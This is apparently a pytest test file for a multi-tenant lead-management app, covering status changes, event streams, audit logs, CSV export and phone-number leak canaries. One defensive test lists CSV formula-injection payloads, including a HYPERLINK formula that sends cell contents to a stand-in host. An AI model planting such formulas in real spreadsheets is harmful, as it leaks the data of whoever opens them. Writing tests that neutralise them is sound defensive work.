"""Around a change of state: what is heard, looked up and taken away; and no number."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx2
import pytest

from examples.critical_buttons.data.csv_out import harmless
from syncpatterns.realtime import decode_cursor
from tests.app.conftest import StartApp
from tests.app.driver import Api, AppProcess, Message, listening, problem, rows
from tests.app.status_driver import (
    UPDATE,
    StatusApi,
    fresh_key,
    hear_batch,
    leads_file,
    row_of,
)
from tests.app.test_sms_canary import leaks

# One app for all of them: a second worker would start a second one.
pytestmark = pytest.mark.xdist_group("app-lead-status-around")


def test_openapi_describes_the_three_forms(desk: StatusApi) -> None:
    """With the limits, the states and the answers."""
    described = desk.client.get("/openapi.json").json()
    post = described["paths"][UPDATE]["post"]
    schemas = described["components"]["schemas"]
    forms = post["requestBody"]["content"]["application/json"]["schema"]["oneOf"]

    assert [form["$ref"].rpartition("/")[2] for form in forms] == [
        *("ChangeOne", "ChangeRows", "ChangeSame")
    ]
    assert schemas["ChangeRows"]["properties"]["updates"]["maxItems"] == 500
    assert "OPEN_DEAL" in json.dumps(schemas["ChangeOne"])
    assert {"200", "207", "404", "409", "412", "413", "422"} <= set(post["responses"])
    assert "/api/leads/export.csv" in described["paths"]


@pytest.mark.parametrize(
    "slug",
    ["reason-required", "batch-failed", "batch-too-large", "row-not-written"],
)
def test_every_refusal_has_its_page(desk: StatusApi, slug: str) -> None:
    """The address in `type` leads somewhere."""
    page = desk.client.get(f"/problems/{slug}")

    assert page.status_code == 200
    assert "What to do" in page.text


def test_progress_moves_no_position(desk: StatusApi, app: AppProcess) -> None:
    """A page that resumes gets every change, and nothing of what was only told."""
    first, second = desk.fresh("new", 2)
    with listening(app) as stream:
        desk.post({"lead_ids": [first], "to": "attempted"})
        told = [stream.next(), stream.position, stream.next(), stream.position]
        assert [m.event for m in told[::2] if isinstance(m, Message)] == [
            *["bulk.progress", "bulk.progress"]
        ]
        assert told[1] == told[3]
        while (message := stream.next()) and message.event != "lead.changed":
            pass
        resumed = stream.position
    desk.post({"lead_ids": [second], "to": "attempted"})

    with listening(app, headers={"Last-Event-ID": resumed}) as again:
        missed = again.next()

    assert set(decode_cursor(resumed)) == {"tenant.acme.bookings", "tenant.acme.leads"}
    assert missed is not None
    assert (missed.event, missed.data["data"]["lead"]["id"]) == ("lead.changed", second)


def test_progress_reaches_its_tenant_and_who_listens_to_leads(
    desk: StatusApi, app: AppProcess
) -> None:
    """Another tenant hears its own, a stream of bookings hears bookings."""
    (mine,) = desk.fresh("new")
    theirs = next(
        each["id"] for each in desk.leads(X_Tenant="globex") if each["status"] == "new"
    )
    booking = next(
        each["id"]
        for each in desk.client.get("/api/bookings").json()
        if each["status"] == "held" and each["expires_at"] > each["updated_at"]
    )
    with (
        listening(app, tenant="globex") as other,
        listening(app, channel="bookings") as bookings,
        listening(app, channel="leads") as leads,
    ):
        desk.post({"lead_ids": [mine], "to": "attempted"})
        desk.post({"lead_ids": [theirs], "to": "attempted"}, X_Tenant="globex")
        Api(desk.client).confirm(booking, fresh_key())
        theirs_heard, ours_heard = hear_batch(other, 1), hear_batch(leads, 1)
        first = bookings.next()

    def channels(heard: tuple[list[dict[str, Any]], ...]) -> list[set[str]]:
        return [{each["channel"] for each in kind} for kind in heard]

    assert channels(theirs_heard) == [
        *[{"tenant.globex.leads"}, {"tenant.globex.progress"}]
    ]
    assert channels(ours_heard) == [{"tenant.acme.leads"}, {"tenant.acme.progress"}]
    assert first is not None
    assert first.data["channel"] == "tenant.acme.bookings"


@pytest.mark.parametrize("channel", ["tenant.acme.progress", "progress"])
def test_progress_is_no_channel_that_can_be_asked_for(
    desk: StatusApi, channel: str
) -> None:
    """It comes with leads; a position in it would mean nothing."""
    refused = desk.client.get("/events", params={"channel": channel})

    assert problem(refused) == (403, "channel-denied")


def test_the_audit_log_shows_the_batch(desk: StatusApi) -> None:
    """The tenant's whole log too, with what was done offline."""
    (lead,) = desk.fresh("new")

    answer = desk.post({"lead_ids": [lead], "to": "attempted"}, Idempotency_Age="120")

    (line,) = desk.client.get("/api/audit", params={"entity_id": lead}).json()
    assert line["bulk_id"] == answer.json()["bulk_id"]
    assert (line["source"], line["client_at"] < line["at"]) == ("offline_replay", True)


# ------------------------------------------------------------------ the table


def table(client: httpx2.Client, **headers: str) -> list[dict[str, str]]:
    """Return the rows of the exported table."""
    answer = client.get("/api/leads/export.csv", headers=headers)
    assert answer.status_code == 200
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def test_the_table_holds_what_the_list_shows(desk: StatusApi) -> None:
    """Every lead of the tenant once, by id, numbers masked as there."""
    listed = desk.leads()

    found = table(desk.client)

    assert [
        (row["id"], row["name"], row["phone"], row["status"], row["version"])
        for row in found
    ] == [
        (each["id"], each["name"], each["phone"], each["status"], str(each["version"]))
        for each in listed
    ]
    assert {row["opted_out"] for row in found} == {"yes", "no"}
    theirs = {row["id"] for row in table(desk.client, **{"X-Tenant": "globex"})}
    assert len(theirs) == 100
    assert theirs.isdisjoint(row["id"] for row in found)


def test_the_table_is_a_file_that_no_browser_takes_for_a_page(desk: StatusApi) -> None:
    """Its kind, its name, and that nobody keeps it."""
    answer = desk.client.get("/api/leads/export.csv")

    sent = answer.headers
    assert sent["content-type"] == "text/csv; charset=utf-8; header=present"
    assert sent["content-disposition"] == 'attachment; filename="leads-acme.csv"'
    assert sent["x-content-type-options"] == "nosniff"
    assert sent["cache-control"] == "no-store"
    assert "\r\n" in answer.text


def test_no_cell_of_the_table_is_a_formula(start_app: StartApp, tmp_path: Path) -> None:
    """Names come from forms that anybody fills in."""
    evil = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\uff1d1+1"]
    names = [*evil, "Ada = Bob", "O'Neil, Ann", 'the "X"', "Ünï 🙂"]
    file = tmp_path / "leads.csv"
    with file.open("w", encoding="utf-8", newline="") as out:
        lines = csv.writer(out)
        lines.writerow(["id", "phone", "name"])
        for number, name in enumerate(names):
            lines.writerow([f"=l-{number}", f"+12025550{100 + number}", name])
    app = start_app("--leads", str(file))
    with app.client() as client:
        found = table(client)

    assert [row["name"] for row in found] == [f"'{e}" for e in evil] + names[
        len(evil) :
    ]
    assert {row["id"][:3] for row in found} == {"'=l"}
    app.stop()


@pytest.mark.parametrize(
    ("cell", "harmless_cell"),
    [
        *[("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx")],
        *[
            ("\rx", "'\rx"),
            ("\nx", "'\nx"),
            ("  =1", "'  =1"),
            ("\u00a0=1", "'\u00a0=1"),
        ],
        *[("\ufeff=1", "'\ufeff=1"), ("\uff0b1", "'\uff0b1"), ("\x00=1", "'\x00=1")],
        *[("Ada;=1", "Ada;'=1"), ("a; -1", "a;' -1"), ("a|@x", "a|'@x")],
        *[("a\n=1", "a\n'=1"), ("a;b", "a;b"), ("=;=", "'=;'=")],
        *[(';"=1', ";'\"=1"), ('a; "" -1', 'a;\' "" -1'), (';"a', ';"a')],
        *[("", ""), ("a=1", "a=1"), ("1-2", "1-2"), ("'=1", "'=1"), ("é", "é")],
    ],
)
def test_a_cell_that_could_be_run_becomes_text(cell: str, harmless_cell: str) -> None:
    """By an apostrophe; everything else is left as it is."""
    assert harmless(cell) == harmless_cell


# ---------------------------------------------------------------------- canary

CANARY = "+12025550173"


@pytest.mark.case("OPR-39", part="leads' states")
def test_no_number_leaves_by_this_way(start_app: StartApp, tmp_path: Path) -> None:
    """Answers, problems, the table, events, audit log, records, and the log."""
    lines = (f"canary,{CANARY},Ada,new,acme", f"twin,{CANARY},Ada,booked,acme")
    app = start_app("--leads", str(leads_file(tmp_path, *lines)))
    said: list[str] = []
    with app.client() as client, listening(app) as stream:
        desk = StatusApi(client)
        for body in (
            row_of("canary", "won"),
            row_of("canary", "lost"),
            row_of("canary", "attempted", version=9),
            {"lead_ids": ["canary", "twin"], "to": "won"},
            {"lead_ids": ["canary", "twin"], "to": "won", "mode": "partial"},
            {"lead_ids": ["canary", "canary"], "to": "won"},
            {"lead_ids": ["canary"], "to": "do_not_contact", "dry_run": True},
            row_of("canary", "do_not_contact"),
            row_of(CANARY, "won"),
            {"lead_id": "canary", "to": CANARY, "phone": CANARY},
        ):
            answer = desk.post(body)
            said += [answer.text, str(answer.headers)]
        for path in ("", "/canary/audit", "/export.csv"):
            said.append(client.get(f"/api/leads{path}").text)
        # Two numbers for each: the consent's and the state's, and the batch's own.
        said += [str(stream.next()) for _ in range(9)]
    app.stop()
    stored = {
        table: "\n".join(map(str, rows(app.database, f"SELECT * FROM {table}")))
        for table in ("audit", "syncpatterns_record", "syncpatterns_outbox")
    }

    assert [found for each in said if (found := leaks(each, [CANARY]))] == []
    assert {
        t: leaks(x, [CANARY]) for t, x in stored.items() if leaks(x, [CANARY])
    } == {}
    assert [line for line in app.said if leaks(line, [CANARY])] == []
    assert any("\u2022" in each for each in said)


def test_a_server_that_stops_ends_its_streams(start_app: StartApp) -> None:
    """Those that listen to progress too, while nothing is told."""
    app = start_app()
    with listening(app) as stream:
        app.process.terminate()

        assert stream.next() is None
    assert (app.wait(), app.said[1:]) == (0, [])
